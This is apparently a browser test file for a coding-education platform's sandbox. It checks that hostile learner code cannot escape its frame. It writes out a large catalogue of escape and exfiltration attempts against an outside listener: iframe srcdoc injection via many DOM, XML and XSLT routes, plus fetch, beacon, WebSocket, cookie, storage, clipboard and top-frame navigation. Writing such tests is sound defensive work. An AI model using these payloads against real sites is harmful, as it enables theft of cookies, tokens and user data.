import { expectUnharmed, hostileRuns, listenOutside, runHostile } from './hostile-code.ts'
import { expect, test, thorough } from './test.ts'

// Hostile code of a teacher or a learner, in a real browser: it reaches no server, no token, no other frame, and stops.

test.use({ serviceWorkers: 'block', expectedConsoleErrors: [/./] })

const { outside, received } = listenOutside()

test(
  'a hostile page sends nothing, reads nothing of the site, and changes nothing outside of its frame',
  thorough,
  async ({ page, request }) => {
    test.slow()
    const attack = (name: string, code: string) =>
      `try { await (async () => { ${code} })(); hasil.push('${name}') } catch { hasil.push('${name} ditolak') }`
    const html = `<!doctype html><html><head><title>Dicuri</title>
    <meta http-equiv="refresh" content="0;url=${outside()}/meta">
    <link rel="prefetch" href="${outside()}/prefetch"><link rel="preconnect" href="${outside()}"><link rel="stylesheet" href="${outside()}/gaya">
    <style>@import url(${outside()}/impor); body { background: url(${outside()}/latar) } @font-face { font-family: x; src: url(${outside()}/huruf) } p { font-family: x }</style>
    </head><body><p>a</p><img src="${outside()}/gambar"><iframe src="${outside()}/bingkai"></iframe>
    <form id="f" action="${outside()}/formulir" method="post"><input name="a"></form><a id="a" href="${outside()}/tautan" target="_top">a</a>
    <script>
    const hasil = [];
    (async () => {
      // First: an inner frame that runs answers during what follows.
      const dalam = "<script>parent.postMessage('jalan ' + typeof RTCPeerConnection, '*'); fetch('${outside()}/dalam'); new Image().src = '${outside()}/dalam2'</scr" + "ipt>";
      const bingkaiJs = "javascript:parent.postMessage('jalan', '*')";
      const kutip = dalam.replaceAll('<', '&lt;').replaceAll('"', '&quot;');
      const bingkai = () => document.body.appendChild(document.createElement('iframe'));
      const buat = () => document.createElement('iframe');
      addEventListener('message', ({ data }) => String(data).startsWith('jalan') && hasil.push('bingkai ' + data));
      const xml = (teks) => new DOMParser().parseFromString(teks, 'text/xml');
      for (const code of [
        () => (bingkai().srcdoc = dalam),
        () => bingkai().setAttribute('SRCDOC', dalam),
        () => bingkai().setAttributeNS(null, 'srcdoc', dalam),
        () => { const a = document.createAttribute('srcdoc'); a.value = dalam; bingkai().setAttributeNode(a) },
        () => { const a = document.createAttribute('srcdoc'); bingkai().attributes.setNamedItem(a); a.value = dalam },
        () => { const b = document.implementation.createHTMLDocument().createElement('iframe'); b.setAttribute('srcdoc', dalam); document.body.append(b) },
        () => document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="' + kutip + '"></iframe>'),
        () => (document.body.appendChild(document.createElement('div')).innerHTML = '<iframe srcdoc="' + kutip + '"></iframe>'),
        () => document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' }).setHTMLUnsafe('<iframe srcdoc="' + kutip + '"></iframe>'),
        () => document.body.append(document.createRange().createContextualFragment('<iframe srcdoc="' + kutip + '"></iframe>')),
        () => document.body.append(Document.parseHTMLUnsafe('<iframe srcdoc="' + kutip + '"></iframe>').querySelector('iframe')),
        () => document.body.append(xml('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="' + kutip + '"/>').documentElement),
        () => document.body.append(xml('<!DOCTYPE a [<!ENTITY e "<h:iframe xmlns:h=\\'http://www.w3.org/1999/xhtml\\' s&#114;cdoc=\\'' + kutip.replaceAll('&', '&#38;').replaceAll("'", '&#39;') + '\\'/>">]><a>&e;</a>').documentElement.firstChild),
        () => { const p = new XSLTProcessor(); p.importStylesheet(xml('<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><iframe xmlns="http://www.w3.org/1999/xhtml"><x:attribute name="{concat(\\'src\\',\\'doc\\')}">' + kutip + '</x:attribute></iframe></x:template></x:stylesheet>')); document.body.append(p.transformToFragment(xml('<a/>'), document)) },
        () => (bingkai().src = bingkaiJs),
        () => { const b = buat(); b.src = bingkaiJs; document.body.append(b) },
        () => (bingkai().src = 'data:text/html,' + dalam),
        () => (bingkai().src = URL.createObjectURL(new Blob([dalam], { type: 'text/html' }))),
        () => (bingkai().src = '/api/me'),
        () => (bingkai().contentWindow.location = bingkaiJs),
        () => hasil.push('bingkai kosong ' + typeof bingkai().contentWindow.RTCPeerConnection),
        () => hasil.push('aturan ' + trustedTypes.createPolicy('lain', { createHTML: (a) => a })),
      ]) try { code() } catch {}
      ${attack('fetch', `await fetch('${outside()}/fetch')`)}
      ${attack('fetch situs', "await fetch('/api/me')")}
      ${attack('beacon', `navigator.sendBeacon('${outside()}/beacon'); throw 'whether it was sent is seen outside'`)}
      ${attack('xhr', `const x = new XMLHttpRequest(); x.open('GET', '${outside()}/xhr', false); x.send()`)}
      ${attack('gambar', `await new Promise((a, b) => { const i = new Image(); i.onload = a; i.onerror = b; i.src = '${outside()}/gambar2' })`)}
      ${attack('soket', `await new Promise((a, b) => { const w = new WebSocket('${outside().replace('http', 'ws')}/soket'); w.onopen = a; w.onerror = b })`)}
      ${attack('peristiwa', `await new Promise((a, b) => { const w = new EventSource('${outside()}/peristiwa'); w.onopen = a; w.onerror = b })`)}
      ${attack('webrtc', 'new RTCPeerConnection()')}
      ${attack('impor', `await import('${outside()}/modul.js')`)}
      ${attack('pekerja', `await new Promise((a, b) => { const w = new Worker('${outside()}/pekerja.js'); w.onmessage = a; w.onerror = b })`)}
      ${attack('pekerja blob', `await new Promise((a, b) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${outside()}/blob').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = ({ data }) => (data ? a() : b()); w.onerror = b })`)}
      ${attack('service worker', "await navigator.serviceWorker.register('/sw.js')")}
      ${attack('penyimpanan', 'localStorage.length')}
      ${attack('kuki', 'document.cookie')}
      ${attack('basis data', "await new Promise((a, b) => { const r = indexedDB.open('x'); r.onsuccess = a; r.onerror = b })")}
      ${attack('cache', "await caches.open('x')")}
      ${attack('induk', 'parent.document.title')}
      ${attack('induk penyimpanan', 'top.localStorage.length')}
      ${attack('papan klip', 'await navigator.clipboard.readText()')}
      ${attack('papan klip tulis', "await navigator.clipboard.writeText('curian')")}
      ${attack('papan klip salin', "document.execCommand('selectAll'); if (!document.execCommand('copy')) throw 0")}
      ${attack('riwayat', "const n = history.length; history.pushState({}, '', '/curian'); History.prototype.replaceState.call(history, {}, '', '/curian'); if (history.length === n) throw 0")}
      ${attack('memori bersama', 'new SharedArrayBuffer(1)')}
      ${attack('eval', "eval('1')")}
      ${attack('jendela', `if (!window.open('${outside()}/jendela')) throw 0`)}
      for (const code of [() => f.submit(), () => a.click(), () => (top.location = '${outside()}/atas'), () => (document.domain = 'x'), () => history.back(), () => history.go(-1), () => (document.title = 'Dicuri'), () => alert(1), () => print()]) try { code() } catch {}
      parent.postMessage({ nonce: 'x', run: 1, message: { kind: 'done' } }, '*')
      const gaya = document.createElement('style'); gaya.textContent = "body { background: url(${outside()}/gaya2) }"; document.head.append(gaya)
      console.log('HASIL ' + hasil.join(','))
    })()
    </script></body></html>`
    const run = await runHostile({ page, request, outside: outside() }, 'web', html)
    const report = page.getByText(/^HASIL /)
    await expect(report).toBeVisible()
    const listSucceeded = async () =>
      (await report.innerText())
        .replace('HASIL ', '')
        .split(',')
        .filter((name) => !name.endsWith('ditolak'))
    await expect.poll(listSucceeded).toEqual([])
    await expectUnharmed(page, run, received)
  },
)

// Documents that the page's policy lets its own frames open are refused to code as well.
const pageThat = (code: string) => `<p>a</p><script>requestAnimationFrame(() => { ${code} })</script>`
const closed = /mencoba membuka halaman lain|Semua 1 tes lulus/

test(
  'a page that opens another document, or the page above, sends nothing and is closed with a sentence',
  thorough,
  async ({ page, request }) => {
    test.setTimeout(300_000)
    const runNext = hostileRuns({ page, request, outside: outside() })
    for (const [name, code] of [
      ['another site', `location = '${outside()}/pergi'`],
      ['a video host', "location = 'https://www.youtube-nocookie.com/embed/x?curian=1'"],
      ['a call of the site', "location.assign('/api/me')"],
      ['a document of its own', "location = URL.createObjectURL(new Blob(['<p>a'], { type: 'text/html' }))"],
      ['its frame around', "location.replace('/exercise-frame?lagi')"],
      [
        'a link that it presses',
        "const a = document.createElement('a'); a.href = '/kelas'; a.dispatchEvent(new MouseEvent('click'))",
      ],
      // Last, because it reaches for the page that the others share.
      [
        'the page above, its frame and the site itself',
        "try { top.location = '/' } catch {} try { parent.location = '/kelas' } catch {} location = '/'",
      ],
    ] as const)
      await test.step(`a page that opens ${name}`, async () => {
        const run = await runNext('web', pageThat(code))
        await expect(page.getByText(closed).first()).toBeVisible()
        await expectUnharmed(page, run, received)
      })
  },
)

test('hostile code in a worker sends nothing and finds no token', thorough, async ({ page, request }) => {
  const code = `const hasil = []
    for (const [nama, coba] of Object.entries({
      xhr() { const x = new XMLHttpRequest(); x.open('GET', '${outside()}/xhr', false); x.send() },
      impor() { importScripts('${outside()}/impor.js') },
      penyimpanan() { localStorage.length },
      induk() { parent.document },
      memori() { new SharedArrayBuffer(1) },
      fungsi() { new Function('return 1')() },
    })) try { coba(); hasil.push(nama) } catch {}
    fetch('${outside()}/fetch').then(() => console.log('BOCOR'), () => console.log('HASIL ' + hasil.join(',')))`
  const run = await runHostile({ page, request, outside: outside() }, 'javascript', code)
  await expect(page.getByText(/^HASIL\s*$/)).toBeVisible()
  await expectUnharmed(page, run, received)
})

type Case = { name: string; code: string; tests?: string; sentences: RegExp[] }

// Cases that flood the page come last in each language.
const cases: Record<'javascript' | 'web', Case[]> = {
  javascript: [
    {
      name: 'an endless loop that prints',
      code: "for (;;) console.log('x'.repeat(100))",
      sentences: [/Sisanya tidak tampil/, /dihentikan setelah 5 detik/],
    },
    {
      name: 'endless microtasks',
      code: 'const ulang = () => Promise.resolve().then(ulang)\nulang()',
      sentences: [/Semua 1 tes lulus|dihentikan setelah 5 detik/],
    },
    { name: 'recursion', code: 'function f() { return f() }\nf()', sentences: [/memanggil dirinya tanpa henti/] },
    { name: 'a syntax error', code: 'const a = 1\nconst b = (2', sentences: [/utama\.js, baris 2|utama\.js, baris 3/] },
    {
      name: 'a flood of messages',
      code: "for (;;) postMessage({ kind: 'line', level: 'log', text: 'x' })",
      sentences: [/keluarannya terlalu banyak|dihentikan setelah 5 detik/],
    },
  ],
  web: [
    {
      name: 'an endless loop in a getter of a page',
      code: '<p>a</p><script>const o = { get a() { while (true); } }; o.a</script>',
      sentences: [/dihentikan setelah 5 detik/],
    },
    {
      name: 'a test of broken HTML that never ends',
      code: '<<p><div </span><table><h1>Halo<script>',
      tests: "tes('selesai', () => harap(1).sama(1))\ntes('putar', () => { for (;;) {} })",
      sentences: [/dihentikan setelah 5 detik|Waktu habis/, /^1 dari 2 tes lulus\.$/],
    },
    {
      name: 'endless alerts in a page',
      code: '<p>a</p><script>while (true) alert(1)</script>',
      sentences: [/keluarannya terlalu banyak|dihentikan setelah 5 detik/],
    },
  ],
}
for (const language of ['javascript', 'web'] as const)
  test(
    `code in ${language} that never ends, floods or is broken ends in a sentence`,
    thorough,
    async ({ page, request }) => {
      test.setTimeout(300_000)
      const runNext = hostileRuns({ page, request, outside: outside() })
      for (const { name, code, tests, sentences } of cases[language])
        await test.step(`${name} ends in a sentence`, async () => {
          const run = await runNext(language, code, tests)
          for (const sentence of sentences) await expect(page.getByText(sentence).first()).toBeVisible()
          await expectUnharmed(page, run, received)
        })
    },
  )
